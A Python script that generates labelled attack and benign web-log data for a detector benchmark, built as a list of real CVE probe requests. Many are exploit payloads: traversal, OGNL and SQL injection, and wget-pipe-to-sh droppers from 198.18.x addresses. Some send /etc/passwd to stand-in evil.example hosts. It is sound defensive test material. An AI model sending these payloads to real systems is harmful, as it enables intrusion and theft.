#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, benign.log, benign.labels and requests.tsv of
# tests/bench/data/thirdparty7 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
import base64, datetime, os, random, urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20251209
DAY = datetime.datetime(2025, 12, 9, 0, 0, 0)

# ----------------------------------------------------------------- user agents
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
 'chw3': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw3', 'chm', 'chl', 'ffw', 'ffl', 'ffm', 'sfm', 'edg', 'ios', 'and']
TOOL = {
 'curl': "curl/8.5.0",
 'py': "python-requests/2.32.5",
 'go': "Go-http-client/1.1",
 'wget': "Wget/1.21.4",
 'zgrab': "Mozilla/5.0 zgrab/0.x",
 'nikto': "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001121)",
 'nmap': "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
 'sqlmap': "sqlmap/1.8.11#stable (https://sqlmap.org)",
 'wpscan': "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
 'dirb': "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
 'hello': "Hello, world",
 'tnas': "TNAS",
}

def b64(s):
    return base64.b64encode(s.encode()).decode()

def q(s):
    """percent-encode everything but unreserved characters (as a client library does)"""
    return urllib.parse.quote(s, safe='')

# Callback hosts and attacker addresses: *.example names and 198.18.0.0/15.
CB = ['oob-7fk2q.attacker.example', 'cb.k93zt.evil.example', 'x1.callback.example',
      'dns-q81.attacker.example', 'pwn.evil.example']

# ----------------------------------------------------------------- entries
# Each entry is one attacking source: category, label, product, source, and its
# requests [(method, target, status, referer)], user agent, http version.
E = []
NUC = 'nuclei-templates http/cves/%s/%s.yaml'
CHECKED = ' [checked against stored copy: rxerium/nuclei-templates@a64f60eb, fork of projectdiscovery/nuclei-templates]'

def nu(c):
    return NUC % (c.split('-')[1], c)

def add(cat, label, reqs, product, source, ua=None, ver='HTTP/1.1', raw=None):
    E.append(dict(cat=cat, label=label, reqs=reqs, product=product, source=source, ua=ua, ver=ver, raw=raw))

def C(label, method, target, status, product, source=None, checked=True, ua=None, ref='-', more=(), ver='HTTP/1.1'):
    src = source if source else nu(label)
    if checked:
        src += CHECKED
    reqs = [(method, target, status, ref)] + [(m[0], m[1], m[2], m[3] if len(m) > 3 else '-') for m in more]
    add('cve', label, reqs, product, src, ua, ver)

def T(cat, label, method, target, status, source, ua=None, ref='-', more=(), ver='HTTP/1.1', raw=None, product='generic'):
    reqs = [(method, target, status, ref)] + [(m[0], m[1], m[2], m[3] if len(m) > 3 else '-') for m in more]
    add(cat, label, reqs, product, source, ua, ver, raw)

# ================================================================= CVE probes
# --- network appliances, VPN portals, firewalls (web UIs)
C('CVE-2020-3452', 'GET', '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../', 404, 'Cisco ASA/FTD WebVPN')
C('CVE-2018-0296', 'GET', '/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions', 404, 'Cisco ASA WebVPN')
C('CVE-2019-1653', 'GET', '/cgi-bin/config.exp', 404, 'Cisco RV320/RV325 router', nu('CVE-2019-1653') + ' / RedTeam Pentesting advisory RT-SA-2018-002')
C('CVE-2020-26073', 'GET', '/dataservice/disasterrecovery/download/token/%2E%2E%2F%2E%2E%2F%2E%2E%2F%2Fetc%2Fpasswd', 404, 'Cisco SD-WAN vManage')
C('CVE-2020-8193', 'POST', '/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1', 404, 'Citrix ADC / Gateway',
  nu('CVE-2020-8193') + ' (chain with CVE-2020-8195 file download)',
  more=[('GET', '/menu/ss?sid=nsroot&username=nsroot&force_setup=1', 404), ('GET', '/menu/neo', 404), ('GET', '/menu/stc', 404),
        ('POST', '/rapi/filedownload?filter=path:%2Fetc%2Fpasswd', 404)])
C('CVE-2020-8209', 'GET', '/jsp/help-sb-download.jsp?sbFileName=../../../etc/passwd', 404, 'Citrix XenMobile Server')
C('CVE-2023-24488', 'GET', '/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<script>alert(document.domain)</script>', 404, 'Citrix ADC / Gateway')
C('CVE-2025-64446', 'POST', '/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi', 404, 'Fortinet FortiWeb', nu('CVE-2025-64446') + ' / watchTowr FortiWeb write-up (CGIINFO header carries the impersonated admin)')
C('CVE-2022-39952', 'POST', '/configWizard/keyUpload.jsp', 404, 'Fortinet FortiNAC', nu('CVE-2022-39952') + ' / Horizon3 FortiNAC write-up (zip with traversal in the body)')
C('CVE-2022-0342', 'GET', '/cgi-bin/export-cgi?category=config&arg0=startup-config.conf', 404, 'Zyxel USG/ATP/VPN firewall')
C('CVE-2020-9054', 'GET', "/adv,/cgi-bin/weblogin.cgi?username=admin';cd /tmp;wget http://198.18.7.21/z.sh -O- |sh #&password=asdf".replace(' ', '%20'), 404,
  'Zyxel NAS326 / NSA', nu('CVE-2020-9054') + ' / CERT/CC VU#498544 (Mirai variant payload)')
C('CVE-2020-29583', 'GET', '/?username=zyfwp&password=PrOw!aN_fXp', 200, 'Zyxel USG (hard-coded zyfwp account)', nu('CVE-2020-29583') + ' / EYE research "Undocumented user account in Zyxel products"')
C('CVE-2019-12581', 'GET', '/free_time_failed.cgi?err_msg=<script>alert(document.domain);</script>', 404, 'Zyxel ZyWall / USG')
C('CVE-2024-29972', 'GET', '/desktop,/cgi-bin/remote_help-cgi/favicon.ico?type=sshd_tdc', 404, 'Zyxel NAS326/NAS542 (NsaRescueAngel backdoor)')
C('CVE-2021-20123', 'GET', '/ACSServer/DownloadFileServlet?show_file_name=../../../../../../etc/passwd&type=uploadfile&path=anything', 404, 'DrayTek VigorConnect')
C('CVE-2020-15415', 'POST', '/cgi-bin/mainfunction.cgi/cvmcfgupload?1=2', 404, 'DrayTek Vigor 2960/3900/300B', nu('CVE-2020-15415') + ' (command in the multipart file name)')
C('CVE-2024-52875', 'GET', '/nonauth/addCertException.cs?dest=' + q(b64('\r\n\r\n<script>alert(document.domain)</script>')), 404, 'GFI Kerio Control',
  nu('CVE-2024-52875') + ' / Egidio Romano (Karma(In)Security) Kerio Control advisory: base64 dest= carries CRLF')
C('CVE-2024-5910', 'GET', '/OS/startup/restore/restoreAdmin.php', 404, 'Palo Alto Networks Expedition')
C('CVE-2024-9465', 'POST', '/bin/configurations/parsers/Checkpoint/CHECKPOINT.php', 404, 'Palo Alto Networks Expedition', nu('CVE-2024-9465') + ' / Horizon3 Expedition write-up (SQL in the signatureid body field)')
C('CVE-2020-15505', 'POST', '/mifs/.;/services/LogService', 404, 'MobileIron Core', nu('CVE-2020-15505') + ' / Orange Tsai "MobileIron MDM" write-up (Hessian body)', ref='https://mdm.corp.example')
C('CVE-2019-12725', 'GET', "/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type='%0A/etc/sudo%20tar%20-cf%20/dev/null%20/dev/null%20--checkpoint=1%20--checkpoint-action=exec=%22id%22%0A'", 404,
  'ZeroShell 3.9.0', 'Metasploit exploit/unix/webapp/zeroshell_exec / exploit-db 49096', checked=False)
C('CVE-2016-6277', 'GET', '/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://198.18.4.2/n.sh;sh${IFS}n.sh', 404, 'NETGEAR R7000/R6400', nu('CVE-2016-6277') + ' / exploit-db 40889 (Mirai-style dropper)', ua=TOOL['hello'])
C('CVE-2020-27866', 'GET', '/setup.cgi?todo=debug&x=currentsetting.htm', 404, 'NETGEAR R6020/R6080/R6120')
C('CVE-2020-25506', 'POST', "/cgi-bin/system_mgr.cgi?C1=ON&cmd=cgi_ntp_time&f_ntp_server=`wget%20http://198.18.3.40/dl.sh%20-O-|sh`", 404, 'D-Link DNS-320 NAS')
C('CVE-2019-17621', 'SUBSCRIBE', '/gena.cgi?service=`telnetd%20-p%209999%20-l%20/bin/sh`', 405, 'D-Link DIR-859 UPnP',
  'Miguel Mendez Z. DIR-859 gena.cgi advisory / exploit-db 48060 (SUBSCRIBE with backticks in service=)', checked=False, ver='HTTP/1.1')
C('CVE-2020-10987', 'GET', '/goform/setUsbUnload/.js?deviceName=A;cd%20/tmp%3Brm%20get.sh%3Bwget%20http%3A//198.18.9.14%3A5001/bot/get.sh%3Bchmod%20777%20get.sh%3B./get.sh', 404,
  'Tenda AC15/AC18', 'Netlab 360 Ttint botnet report (GET form of the setUsbUnload injection) / ISE Tenda AC1900 advisory', checked=False, ua=UA['chw'])
C('CVE-2022-40843', 'GET', '/goform/downloadSyslog/syslog.log', 404, 'Tenda AC1200 W15E')
C('CVE-2022-25082', 'GET', '/cgi-bin/downloadFlile.cgi?payload=`ls>../home/web/res.txt`', 404, 'TOTOLINK A950RG/T10')
C('CVE-2024-25852', 'PUT', '/goform/AccessControl', 405, 'Linksys RE7000', nu('CVE-2024-25852') + ' (command in the JSON body)')
C('CVE-2022-36553', 'GET', '/cgi-bin/popen.cgi?command=ping%20-c%204%201.1.1.1;cat%20/etc/shadow&v=0.1303033443137912', 404, 'Hytec Inter HWL-2511-SS')
C('CVE-2021-27561', 'GET', '/premise/front/getPingData?url=http://0.0.0.0:9600/sm/api/v1/firewall/zone/services?zone=;/usr/bin/id;', 404, 'Yealink Device Management')
C('CVE-2019-7256', 'GET', '/card_scan.php?No=30&ReaderNo=%60cat%20/etc/passwd%20%3E%20cscan.txt%60', 404, 'Nortek Linear eMerge E3',
  more=[('GET', '/cscan.txt', 404)])
C('CVE-2023-23333', 'GET', '/downloader.php?file=%3Becho%20' + b64('cat /etc/passwd') + '%7Cbase64%20-d%7Cbash%00.zip', 404, 'Contec SolarView Compact',
  nu('CVE-2023-23333') + ' / exploit-db 51261 (base64 command, NUL before .zip)')
C('CVE-2020-28188', 'GET', '/include/makecvs.php?Event=%60wget%20http%3A%2F%2F198.18.11.3%2Ft.sh%20-O%20%2Ftmp%2Ft.sh%20%26%26%20sh%20%2Ftmp%2Ft.sh%60', 404, 'TerraMaster TOS',
  nu('CVE-2020-28188') + ' / IHTeam TerraMaster TOS advisory')
C('CVE-2022-24990', 'GET', '/module/api.php?mobile/webNasIPS', 404, 'TerraMaster TOS', nu('CVE-2022-24990') + ' / Octagon Networks write-up (User-Agent: TNAS required)', ua=TOOL['tnas'])
C('CVE-2017-17562', 'POST', '/cgi-bin/index?LD_PRELOAD=/proc/self/fd/0', 404, 'Embedthis GoAhead', 'Elttam GoAhead CVE-2017-17562 write-up / Metasploit goahead_ldpreload (shared object in the body)', checked=False)
C('CVE-2019-16278', 'POST', '/.%0d./.%0d./.%0d./.%0d./bin/sh', 404, 'nostromo nhttpd 1.9.6', nu('CVE-2019-16278') + ' / exploit-db 47837 (command in the body)')
C('CVE-2019-20085', 'GET', '/..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fwindows%2Fwin.ini', 400, 'TVT NVMS-1000', ua='-')
C('CVE-2025-34036', 'GET', '/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://198.18.12.9:34468/Mozi.a;sh${IFS}/tmp/Mozi.a&&tar${IFS}/string.js', 404,
  'TVT / "Cross Web Server" DVRs', 'exploit-db 39596 (Cross Web Server DVR RCE; CVE-2025-34036 assigned 2025); Mozi honeypot captures', checked=False, ua=TOOL['hello'], ver='HTTP/1.0')
C('CVE-2016-20016', 'GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.18.12.40/jaws;sh+/tmp/jaws', 404, 'MVPower DVR (JAWS web server)',
  'Pen Test Partners MVPower DVR write-up (2016, CVE-2016-20016 assigned 2022); Mirai honeypot captures', checked=False, ua=TOOL['hello'], ver='HTTP/1.0')
C('CVE-2024-8956', 'GET', '/cgi-bin/param.cgi?get_system_conf', 404, 'PTZOptics PT30X-SDI/NDI camera', 'GreyNoise PTZOptics zero-day write-up; Greenbone check of CVE-2024-8956', checked=False)
C('CVE-2025-4008', 'GET', '/public/template.cgi?templatefile=$(wget%20-qO-%20http://198.18.13.2/mb.sh%7Csh)', 404, 'Smartbedded Meteobridge', nu('CVE-2025-4008') + ' / ONEKEY Meteobridge advisory')
C('CVE-2021-3577', 'GET', '/?action=command&command=set_city_timezone&value=$(wget%20http://' + CB[0] + '/m)', 200, 'Motorola Halo+/MBP baby monitors (Hubble)')
C('CVE-2020-5847', 'GET', '/webGui/images/green-on.png/?path=x&site[x][text]=%3C?php%20system(%27id%27);%20?%3E', 404, 'Unraid 6.8.0', nu('CVE-2020-5847') + ' / Sysdream Unraid advisory')
C('CVE-2021-46704', 'GET', '/api/ping/;`id`', 404, 'GenieACS')

# --- CI/CD, dev tooling, collaboration
C('CVE-2019-8449', 'GET', '/rest/api/latest/groupuserpicker?query=1&maxResults=50000&showAvatar=true', 404, 'Atlassian Jira')
C('CVE-2019-8442', 'GET', '/s/7a3b1cfe/_/META-INF/maven/com.atlassian.jira/atlassian-jira-webapp/pom.xml', 404, 'Atlassian Jira')
C('CVE-2020-14179', 'GET', '/secure/QueryComponent!Default.jspa', 404, 'Atlassian Jira')
C('CVE-2020-14181', 'GET', '/secure/ViewUserHover.jspa?username=admin', 404, 'Atlassian Jira')
C('CVE-2022-0540', 'GET', '/InsightPluginShowGeneralConfiguration.jspa;', 404, 'Atlassian Jira (Seraph)')
C('CVE-2019-3403', 'GET', '/rest/api/2/user/picker?query=admin', 404, 'Atlassian Jira')
C('CVE-2023-26256', 'GET', '/plugins/servlet/snjFooterNavigationConfig?fileName=../../../../etc/passwd&fileMime=$textMime', 404, 'STAGIL Navigation for Jira')
C('CVE-2021-26085', 'GET', '/s/92kq1x/_/;/WEB-INF/web.xml', 404, 'Atlassian Confluence Server')
C('CVE-2019-11580', 'POST', '/crowd/admin/uploadplugin.action', 404, 'Atlassian Crowd', nu('CVE-2019-11580') + ' / Corben Leo "pdkinstall" write-up',
  more=[('GET', '/crowd/plugins/servlet/exp?cmd=id', 404)])
C('CVE-2019-1003000', 'GET', '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public%20class%20x%20{public%20x(){%22curl%20http://' + CB[1] + '/j%22.execute()}}',
  404, 'Jenkins Script Security plugin', nu('CVE-2019-1003000') + ' / Orange Tsai "Hacking Jenkins Part 2"')
C('CVE-2020-2096', 'GET', '/gitlab/build_now%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E', 404, 'Jenkins GitLab Hook plugin')
C('CVE-2021-43287', 'GET', '/go/add-on/business-continuity/api/plugin?folderName=&pluginName=../../../etc/passwd', 404, 'ThoughtWorks GoCD')
C('CVE-2020-13927', 'GET', '/api/experimental/latest_runs', 404, 'Apache Airflow')
C('CVE-2020-11978', 'GET', '/api/experimental/test', 404, 'Apache Airflow (example_trigger_target_dag)',
  more=[('GET', '/api/experimental/dags/example_trigger_target_dag/paused/false', 404),
        ('POST', '/api/experimental/dags/example_trigger_target_dag/dag_runs', 404)])
C('CVE-2021-45232', 'GET', '/apisix/admin/migrate/export', 404, 'Apache APISIX Dashboard')
C('CVE-2020-10770', 'GET', '/auth/realms/master/protocol/openid-connect/auth?scope=openid&response_type=code&redirect_uri=valid&state=cfx&nonce=cfx&client_id=security-admin-console&request_uri=http://' + CB[2] + '/', 404, 'Keycloak')
C('CVE-2023-1177', 'POST', '/ajax-api/2.0/mlflow/registered-models/create', 404, 'MLflow', nu('CVE-2023-1177') + ' / Protect AI MLflow LFI write-up',
  more=[('POST', '/ajax-api/2.0/mlflow/model-versions/create', 404), ('GET', '/model-versions/get-artifact?path=passwd&name=qzx7m&version=1', 404)])
C('CVE-2022-24124', 'GET', '/api/get-organizations?p=123&pageSize=123&value=cfx&sortField=&sortOrder=&field=updatexml(1,version(),1)', 404, 'Casdoor')
C('CVE-2021-3223', 'GET', '/ui_base/js/..%2f..%2f..%2f..%2fsettings.js', 400, 'Node-RED Dashboard', ua='-')
C('CVE-2021-29622', 'GET', '/new/newhttp://evil.example', 404, 'Prometheus (open redirect)')
C('CVE-2021-41174', 'GET', '/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1', 404, 'Grafana')
C('CVE-2020-13379', 'GET', '/avatar/1%3fd%3dhttp%3A%252F%252Fimgur.com%252F..%25252F' + CB[3], 404, 'Grafana (avatar SSRF)')
C('CVE-2021-39226', 'GET', '/api/snapshots/:key', 404, 'Grafana')
C('CVE-2021-21315', 'GET', '/api/getServices?name[]=$(wget%20--post-file%20/etc/passwd%20' + CB[4] + ')', 404, 'Node.js systeminformation')
C('CVE-2023-0297', 'POST', '/flash/addcrypted2', 404, 'pyLoad', nu('CVE-2023-0297') + ' / huntr report (js2py code in the jk body field)')

# --- Java middleware, frameworks, app servers
C('CVE-2022-21371', 'GET', '/.//WEB-INF/weblogic.xml', 404, 'Oracle WebLogic Server')
C('CVE-2020-14750', 'GET', "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=HomePage1&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec('id');%22)", 404,
  'Oracle WebLogic Server', 'public PoC for CVE-2020-14882/14883 with the CVE-2020-14750 double-encoded bypass (jas502n, Jang); ' + nu('CVE-2020-14750') + ' uses the same path')
C('CVE-2018-2894', 'POST', '/ws_utc/resources/setting/options', 404, 'Oracle WebLogic Server (ws_utc)',
  more=[('POST', '/ws_utc/resources/setting/keystore', 404), ('GET', '/ws_utc/css/config/keystore/1733700000123_x7k.jsp?cmd=id', 404)])
C('CVE-2021-2109', 'GET', '/console/css/%252e%252e%252f/consolejndi.portal?_pageLabel=JNDIBindingPageGeneral&_nfpb=true&JNDIBindingPortlethandle=com.bea.console.handles.JndiBindingHandle(%22ldap://198.18.3;4:1389/Basic/WeblogicEcho;AdminServer%22)',
  404, 'Oracle WebLogic Server', 'Alibaba Cloud / 360 CERT CVE-2021-2109 PoC (IP split by ";" to pass the JNDI host check)', checked=False)
C('CVE-2020-14864', 'GET', '/analytics/saw.dll?getPreviewImage&previewFilePath=/etc/passwd', 404, 'Oracle Business Intelligence')
C('CVE-2019-2767', 'GET', '/xmlpserver/convert?xml=<%3fxml+version%3d"1.0"+%3f><!DOCTYPE+r+[<!ELEMENT+r+ANY+><!ENTITY+%25+sp+SYSTEM+"http%3a//' + CB[0] + '/xxe.xml">%25sp%3b%25param1%3b]>&_xf=Excel&_xl=123&template=123',
  404, 'Oracle BI Publisher')
C('CVE-2025-61757', 'POST', '/iam/governance/applicationmanagement/api/v1/applications/groovyscriptstatus;.wadl', 404, 'Oracle Identity Manager', nu('CVE-2025-61757') + ' / Searchlight Cyber OIM write-up')
C('CVE-2022-36537', 'POST', '/zkau/upload?uuid=101010&dtid=z_9k2&sid=0&maxsize=-1&nextURI=/WEB-INF/web.xml', 404, 'ZK Framework (R1Soft Server Backup Manager)',
  nu('CVE-2022-36537') + ' / Huntress R1Soft write-up (nextURI forwards to WEB-INF)')
C('CVE-2017-1000486', 'GET', '/javax.faces.resource/dynamiccontent.properties.xhtml?pfdrt=sc&ln=primefaces&pfdrid=uMKljPgnOTVxmOB%2BH6%2FQEPW9ghJMGL3PRdkfmbiiPkUDzOAoSQnmBt4dYyjvjGhVbBkVHj5xLXXCaFGpOHe704aOkNwaB12Cc3Iq6NmBo%2BQZuqhqtPxdTA%3D%3D',
  404, 'PrimeFaces 5.x', 'Mogwai Labs PrimeFaces EL injection write-up; ' + nu('CVE-2017-1000486') + ' sends the same fields in a POST body')
C('CVE-2021-27850', 'GET', '/assets/app/something/services/AppModule.class/', 404, 'Apache Tapestry')
C('CVE-2021-28164', 'GET', '/%2e/WEB-INF/web.xml', 404, 'Eclipse Jetty')
C('CVE-2021-34429', 'GET', '/%u002e/WEB-INF/web.xml', 400, 'Eclipse Jetty', ua='-')
C('CVE-2021-41381', 'GET', '/.//WEB-INF/classes/META-INF/microprofile-config.properties', 404, 'Payara Micro')
C('CVE-2017-1000028', 'GET', '/theme/META-INF/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 404, 'Oracle GlassFish 4.1')
C('CVE-2020-5410', 'GET', '/..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development', 404, 'Spring Cloud Config Server')
C('CVE-2019-3799', 'GET', '/test/pathtraversal/master/..%252f..%252f..%252f..%252f../etc/passwd', 404, 'Spring Cloud Config Server')
C('CVE-2021-21234', 'GET', '/manage/log/view?filename=/etc/passwd&base=../../../../../../../../../../', 404, 'spring-boot-actuator-logview')
C('CVE-2020-11989', 'GET', '/admin/a%25%32%66a', 404, 'Apache Shiro (Spring)', 'Tencent Security Xuanwu / Apache Shiro 1.5.3 advisory: double-encoded slash bypass', checked=False)
C('CVE-2020-13933', 'GET', '/admin/%3bpage', 404, 'Apache Shiro', 'Apache Shiro 1.6.0 advisory / public PoC (encoded ";" bypass)', checked=False)
C('CVE-2018-11776', 'GET', '/%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%23ct%3D%23request%5B%27struts.valueStack%27%5D.context%29.%28%23cr%3D%23ct%5B%27com.opensymphony.xwork2.ActionContext.container%27%5D%29.%28%23ou%3D%23cr.getInstance%28%40com.opensymphony.xwork2.ognl.OgnlUtil%40class%29%29.%28%23ou.getExcludedPackageNames%28%29.clear%28%29%29.%28%23ou.getExcludedClasses%28%29.clear%28%29%29.%28%23ct.setMemberAccess%28%23dm%29%29.%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action',
  404, 'Apache Struts 2 (S2-057)', nu('CVE-2018-11776') + ' / Semmle (Man Yue Mo) S2-057 write-up')
C('CVE-2020-17530', 'GET', '/index.action?id=%25%7B%28%23instancemanager%3D%23application%5B%22org.apache.tomcat.InstanceManager%22%5D%29.%28%23stack%3D%23attr%5B%22com.opensymphony.xwork2.util.ValueStack.ValueStack%22%5D%29.%28%23bean%3D%23instancemanager.newInstance%28%22org.apache.commons.collections.BeanMap%22%29%29.%28%23bean.setBean%28%23stack%29%29.%28%23context%3D%23bean.get%28%22context%22%29%29.%28%23bean.setBean%28%23context%29%29.%28%23macc%3D%23bean.get%28%22memberAccess%22%29%29.%28%23bean.setBean%28%23macc%29%29.%28%23emptyset%3D%23instancemanager.newInstance%28%22java.util.HashSet%22%29%29.%28%23bean.put%28%22excludedClasses%22%2C%23emptyset%29%29.%28%23bean.put%28%22excludedPackageNames%22%2C%23emptyset%29%29.%28%23arglist%3D%23instancemanager.newInstance%28%22java.util.ArrayList%22%29%29.%28%23arglist.add%28%22id%22%29%29.%28%23execute%3D%23instancemanager.newInstance%28%22freemarker.template.utility.Execute%22%29%29.%28%23execute.exec%28%23arglist%29%29%7D',
  404, 'Apache Struts 2 (S2-061)', nu('CVE-2020-17530') + ' / Alvaro Munoz S2-061 PoC')
C('CVE-2017-12615', 'PUT', '/a7x2.jsp/', 405, 'Apache Tomcat (readonly=false on Windows/Linux)', more=[('GET', '/a7x2.jsp?cmd=id', 404)])
C('CVE-2025-24813', 'PUT', '/k3q9.session', 405, 'Apache Tomcat (partial PUT)', nu('CVE-2025-24813') + ' / Wallarm CVE-2025-24813 write-up (Content-Range PUT, then JSESSIONID=.k3q9 cookie)',
  more=[('GET', '/', 200)])
C('CVE-2021-40438', 'GET', '/?unix:' + 'A' * 5000 + '|http://' + CB[2] + '/', 200, 'Apache HTTP Server mod_proxy', nu('CVE-2021-40438') + ' / Firzen "mod_proxy SSRF" analysis (A repeated to overflow the unix: path)')
C('CVE-2019-0193', 'GET', '/solr/db/dataimport?command=full-import&verbose=false&clean=false&commit=false&debug=true&core=db&name=dataimport&dataConfig=' +
  q('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(){ java.lang.Runtime.getRuntime().exec("curl http://' + CB[3] + '/s"); }]]></script><document><entity name="stackoverflow" url="https://stackoverflow.com/feeds/tag/solr" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc" /></document></dataConfig>'),
  404, 'Apache Solr DataImportHandler', 'Vulhub solr/CVE-2019-0193 PoC (dataConfig in the query, debug=true); ' + nu('CVE-2019-0193'))
C('CVE-2020-9496', 'POST', '/webtools/control/xmlrpc', 404, 'Apache OFBiz', nu('CVE-2020-9496') + ' (serialized object inside the XML-RPC body)')
C('CVE-2018-3760', 'GET', '/assets/file:%2f%2f/usr/src/app/app/assets/images/%252e%252e/%252e%252e/%252e%252e/%252e%252e/%252e%252e/%252e%252e/etc/passwd', 404, 'Ruby on Rails Sprockets', nu('CVE-2018-3760') + ' / Orange Tsai Sprockets advisory')
C('CVE-2019-11043', 'GET', '/index.php/PHP_VALUE%0Asession.auto_start=1;;;?' + 'Q' * 1690, 404, 'PHP-FPM behind nginx (path_info)',
  'Neex/Wallarm phuip-fpizdam exploit (CVE-2019-11043): PHP_VALUE after %0A in PATH_INFO, padded query', checked=False)
C('CVE-2022-47945', 'GET', '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/<?=phpinfo()?>+/tmp/tp.php', 200, 'ThinkPHP 6 (multi-language)',
  nu('CVE-2022-47945') + ' / public ThinkPHP lang + pearcmd PoCs (vulhub thinkphp/lang-rce)')
C('CVE-2020-15227', 'GET', '/nette.micro/?callback=shell_exec&cmd=cat%20/etc/passwd&what=-1', 404, 'Nette Application', nu('CVE-2020-15227') + ' / Nette security bulletin PoC')
C('CVE-2019-16759', 'GET', "/index.php?routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=echo%20shell_exec('id');%20exit;", 200, 'vBulletin 5.x',
  'Full Disclosure 2019-09-23 vBulletin 0-day PoC (routestring + widgetConfig[code]); sent as a query string as scanners do', checked=False)
C('CVE-2018-12613', 'GET', '/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd', 200, 'phpMyAdmin 4.8.x')
C('CVE-2021-32682', 'GET', '/php/connector.minimal.php?cmd=archive&name=-TvTT=id>shell.php%20%23%20a.zip&target=l1_Lw&targets%5B1%5D=l1_Mi56aXA&targets%5B0%5D=l1_MS50eHQ&type=application%2Fzip', 404,
  'elFinder 2.1.58', 'SonarSource "elFinder" write-up (argument injection in name=)', checked=False)
C('CVE-2017-7615', 'GET', '/verify.php?id=1&confirm_hash=', 404, 'MantisBT')
C('CVE-2019-16662', 'GET', '/install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=%3b%77%67%65%74%20%68%74%74%70%3a%2f%2f%31%39%38%2e%31%38%2e%32%2e%37%2f%72%20%2d%4f%2d%7c%73%68%20%23', 404, 'rConfig 3.9.2')
C('CVE-2016-10134', 'GET', '/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)', 404, 'Zabbix')
C('CVE-2022-24716', 'GET', '/lib/icinga/icinga-php-thirdparty/etc/passwd', 404, 'Icinga Web 2')
C('CVE-2018-17246', 'GET', '/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../../../../../../etc/passwd', 404, 'Kibana')
C('CVE-2021-32099', 'GET', "/pandora_console/include/chart_generator.php?session_id=a'%20UNION%20SELECT%20'a',1,'id_usuario|s:5:\"admin\";'%20as%20data%20FROM%20tsessions_php%20WHERE%20'1'='1", 404,
  'Pandora FMS 7.44', 'SonarSource "Pandora FMS" write-up / exploit-db 50961', checked=False)
